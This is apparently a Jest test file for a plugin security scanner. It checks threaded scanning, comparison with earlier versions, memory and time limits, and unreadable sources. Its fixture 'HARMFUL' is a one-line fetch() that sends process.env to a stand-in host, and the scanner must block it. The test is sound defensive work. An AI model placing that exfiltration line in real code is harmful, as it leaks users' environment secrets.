import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS, packFiles } from '@ragnos-vault/archive';
import type { FileMember } from '@ragnos-vault/archive';
import { scanSource, scanSources, type ScanOptions } from './scan-source.ts';

const NOW = new Date('2026-06-01T00:00:00Z');
const HARMFUL = `fetch('https://a.example.invalid/', { body: JSON.stringify(process.env) });`;

let dir: string;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'scan-threads-'));
});

afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** Enough that a plugin is worth a thread. */
const LARGE = 'A line of words.\n'.repeat(5_000);

function pack(name: string, source: string, version = '1.0.0'): string {
  const files = {
    'package.json': JSON.stringify({ name, version }),
    'index.js': source,
    ...(!name.startsWith('small') && { 'README.md': LARGE }),
  };
  const members = Object.entries(files).map(([path, content]): FileMember => {
    return { path, mode: 0o644, content: Buffer.from(content) };
  });
  const file = join(dir, `${name}-${version}.tgz`);
  writeFileSync(file, packFiles(members, DEFAULT_LIMITS));
  return file;
}

const scanAll = (names: readonly string[], options: Partial<ScanOptions> = {}) =>
  scanSources(
    names.map((name) => ({ source: pack(name, name.startsWith('bad') ? HARMFUL : 'exports.a = 1;') })),
    { now: NOW, ...options },
  );

describe('scanning several plugins in threads', () => {
  it('gives the reports that one after another gives, in the order of the plugins', async () => {
    const names = ['a', 'bad-b', 'small-c', 'bad-d', 'e'];
    const reports = await scanAll(names, { maxThreads: 3 });
    const alone = [];
    for (const name of names)
      alone.push(await scanSource({ source: join(dir, `${name}-1.0.0.tgz`), now: NOW }));
    expect(reports).toEqual(alone);
    expect(reports.map(({ verdict }) => verdict)).toEqual(['pass', 'block', 'pass', 'block', 'pass']);
  });

  it('compares each with the version before it', async () => {
    const sources = ['a', 'b'].map((name) => ({
      source: pack(name, `fetch('https://a.example/')`, '1.0.1'),
      previous: pack(name, ''),
    }));
    const reports = await scanSources(sources, { now: NOW });
    expect(reports.map(({ findings }) => findings.map(({ rule }) => rule))).toEqual([
      ['DIF-001'],
      ['DIF-001'],
    ]);
  });

  it.each([
    ['out of memory', { memoryMb: 4 }, /memory/],
    ['out of time', { timeoutMs: 1 }, /longer than 1 ms/],
  ])('blocks as incomplete what runs %s', async (...[, options, message]) => {
    const reports = await scanAll(['a', 'b'], options);
    for (const { verdict, complete, findings } of reports) {
      expect([verdict, complete]).toEqual(['block', false]);
      expect(findings.map(({ rule }) => rule)).toEqual(['ANA-003']);
      expect(findings[0]?.message).toMatch(message);
    }
  });

  it('needs no thread for small ones', async () => {
    const reports = await scanAll(['small-a', 'small-b'], { timeoutMs: 1, memoryMb: 4 });
    expect(reports.map(({ verdict }) => verdict)).toEqual(['pass', 'pass']);
  });

  it('blocks as incomplete where the version before cannot be summed up', async () => {
    const sources = ['a', 'b'].map((name) => ({ source: pack(name, '', '1.0.1'), previous: pack(name, '') }));
    await expect(scanSources(sources, { now: NOW, timeoutMs: 1 })).rejects.toMatchObject({
      code: 'ERR_SCAN_INCOMPLETE',
    });
  });

  it('refuses the first that cannot be read', async () => {
    const sources = [pack('a', ''), join(dir, 'none'), join(dir, 'none either')].map((source) => ({
      source,
    }));
    await expect(scanSources(sources, { now: NOW })).rejects.toMatchObject({
      code: 'ERR_PLUGIN_SOURCE',
      facts: { source: join(dir, 'none') },
    });
  });

  it('of no plugin is no report', async () => {
    expect(await scanSources([], { now: NOW })).toEqual([]);
  });
});
